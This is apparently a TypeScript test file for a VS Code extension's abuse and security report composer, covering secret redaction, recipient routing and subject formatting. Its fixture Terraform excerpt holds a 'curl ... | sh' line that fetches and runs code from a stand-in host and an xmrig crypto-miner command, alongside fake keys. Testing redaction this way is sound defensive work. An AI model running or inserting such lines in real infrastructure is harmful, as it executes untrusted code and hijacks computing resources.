import * as assert from 'node:assert/strict';
import { composeReport, reportMarkdown, type ReportInput } from '../../../src/engine/report/compose';
import { mailtoUrl } from '../../../src/engine/report/mailto';
import { assertNoLeak } from '../redact/assertions';
import { AWS_KEY_ID, AWS_SECRET, GITHUB_TOKEN, JWT, keyLines, pem } from '../redact/fake-secrets';

const RECIPIENTS = { abuse: 'abuse@autoscalr.com', security: 'security@autoscalr.com' };
const VERSIONS = { extension: '0.1.0', vscode: '1.100.3' };

const EXCERPT_TEXT = [
	'provider "aws" {',
	`  access_key = "${AWS_KEY_ID}"`,
	`  secret_key = "${AWS_SECRET}"`,
	'}',
	'resource "aws_instance" "miner" {',
	'  user_data = <<EOF',
	'    curl -s https://admin:Hunt3r2024@pool.example.com/x | sh',
	'    ./xmrig -o stratum+tcp://pool.example.com:3333',
	`    ${pem('PRIVATE KEY', keyLines(2, 5), '\n    ')}`,
	'  EOF',
	'}',
].join('\n');

const VIOLATION: ReportInput = {
	kind: 'violation',
	description: `A generated config runs a miner and hard-codes keys.\nThe token ${GITHUB_TOKEN} was pasted here by mistake.`,
	excerpt: { file: 'infra/main.tf', startLine: 11, text: EXCERPT_TEXT },
	finding: { ruleId: 'AUP-MIN-001', message: 'xmrig runs a crypto-miner; remove it', aupSection: '3' },
	versions: VERSIONS,
	recipients: RECIPIENTS,
};

const SECRETS = [AWS_KEY_ID, AWS_SECRET, 'Hunt3r2024', GITHUB_TOKEN, ...keyLines(2, 5)];

describe('report: compose', () => {
	const report = composeReport(VIOLATION);

	it('routes a suspected violation to the abuse address and a security issue to the security address', () => {
		assert.equal(report.to, 'abuse@autoscalr.com');
		assert.equal(composeReport({ ...VIOLATION, kind: 'security' }).to, 'security@autoscalr.com');
		assert.equal(composeReport({ ...VIOLATION, recipients: { abuse: ' soc@example.org ', security: 'x' } }).to, 'soc@example.org');
	});

	it('leaves no secret in the subject, the body, the Markdown file or the mailto link', () => {
		const link = mailtoUrl(report);
		const places: readonly (readonly [string, string])[] = [
			['subject', report.subject], ['body', report.body], ['markdown', reportMarkdown(report)],
			['excerpt', report.excerptRedacted?.text ?? ''], ['mailto', link.url], ['decoded mailto', decodeURIComponent(link.url)],
			['file for a truncated link', link.markdown],
		];
		for (const [where, text] of places) {
			for (const secret of SECRETS) {
				assertNoLeak(text, secret, where);
			}
		}
		assert.equal(report.redactionCount, 5);
	});

	it('keeps what is not secret, so the report still shows the problem', () => {
		assert.ok(report.body.includes('./xmrig -o stratum+tcp://pool.example.com:3333'));
		assert.ok(report.body.includes('curl -s https://admin:<redacted: password in URL>@pool.example.com/x | sh'));
		assert.ok(report.body.includes('The token <redacted: GitHub token> was pasted here by mistake.'));
		assert.equal(report.excerptRedacted?.text.split('\n').length, EXCERPT_TEXT.split('\n').length);
	});

	it('says where the excerpt comes from, with 1-based lines, and what was removed', () => {
		assert.ok(report.body.includes('File `infra/main.tf`, lines 12–25 (4 secrets removed: AWS access key id, password in URL, private key, secret key):'), report.body);
		assert.ok(report.body.includes('- Rule: AUP-MIN-001\n- AUP section: 3 (What you must not do)\n- Message: xmrig runs a crypto-miner; remove it'));
		assert.ok(report.body.includes('- AUP Guard 0.1.0\n- VS Code 1.100.3'));
		assert.ok(report.body.includes('```hcl\nprovider "aws" {'));
	});

	it('builds a one-line subject from the kind, the rule and the first line of the description', () => {
		assert.equal(report.subject, '[AUP violation] AUP-MIN-001: A generated config runs a miner and hard-codes keys.');
		const long = composeReport({ kind: 'security', description: `\n\n  ${'Session tokens leak in logs '.repeat(6)}\nmore`, versions: VERSIONS, recipients: RECIPIENTS });
		assert.ok(long.subject.startsWith('[Security issue] Session tokens leak in logs Session'));
		assert.ok(long.subject.endsWith('…') && !/[\r\n]/.test(long.subject));
		assert.ok(Array.from(long.subject).length <= '[Security issue] '.length + 72);
		assert.equal(composeReport({ kind: 'security', description: '  ', versions: VERSIONS, recipients: RECIPIENTS }).subject, '[Security issue] report from AUP Guard');
	});

	it('redacts a secret pasted into the first line of the description before it reaches the subject', () => {
		const pasted = composeReport({ ...VIOLATION, finding: undefined, description: `leaked ${JWT} in chat` });
		assert.equal(pasted.subject, '[AUP violation] leaked <redacted: JSON Web Token> in chat');
	});

	it('fences an excerpt that itself holds backticks so it cannot close the block early', () => {
		const tricky = composeReport({ ...VIOLATION, excerpt: { file: 'README.md', startLine: 0, text: 'run:\n```sh\nmake\n```' } });
		assert.ok(tricky.body.includes('File `README.md`, lines 1–4:\n\n````\nrun:\n```sh\nmake\n```\n````'), tricky.body);
	});

	it('writes a single-line excerpt as one line and works without excerpt or finding', () => {
		const single = composeReport({ ...VIOLATION, excerpt: { file: 'k8s/Dockerfile', startLine: 4, text: 'RUN ./xmrig' } });
		assert.ok(single.body.includes('File `k8s/Dockerfile`, line 5:\n\n```dockerfile\nRUN ./xmrig\n```'));
		const bare = composeReport({ kind: 'security', description: 'The login page accepts any password.', versions: VERSIONS, recipients: RECIPIENTS });
		assert.equal(bare.excerptRedacted, undefined);
		assert.ok(!bare.body.includes('## Excerpt') && !bare.body.includes('## Finding'));
		assert.ok(bare.body.startsWith('**Report type:** Security issue in the Autoscalr platform\n\n## Description\n\nThe login page accepts any password.'));
	});

	it('writes the Markdown file with the subject as its title and the recipient', () => {
		assert.ok(reportMarkdown(report).startsWith(`# ${report.subject}\n\nTo: abuse@autoscalr.com\n\n**Report type:**`));
	});
});
